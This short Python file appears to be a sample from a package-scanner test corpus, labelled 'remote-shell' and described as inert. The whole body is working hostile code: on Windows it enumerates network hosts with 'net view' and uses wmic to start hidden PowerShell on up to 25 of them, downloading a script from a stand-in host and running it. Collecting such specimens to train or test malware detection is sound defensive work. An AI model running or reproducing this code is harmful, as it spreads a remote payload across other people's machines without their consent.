# pkgguard corpus 912 (remote-shell), modelled on [taxonomy]; inert, never run.
import subprocess
import sys

if sys.platform == "win32":
    listing = subprocess.run(["net", "view"], capture_output=True, text=True).stdout
    hosts = [line.split()[0].lstrip("\\") for line in listing.splitlines() if line.startswith("\\\\")]
    for host in hosts[:25]:
        subprocess.run(
            ["wmic", f"/node:{host}", "process", "call", "create",
             r"powershell -w hidden -c iwr https://upd.example/a.ps1 -o $env:TEMP\a.ps1; & $env:TEMP\a.ps1"],
            capture_output=True,
        )
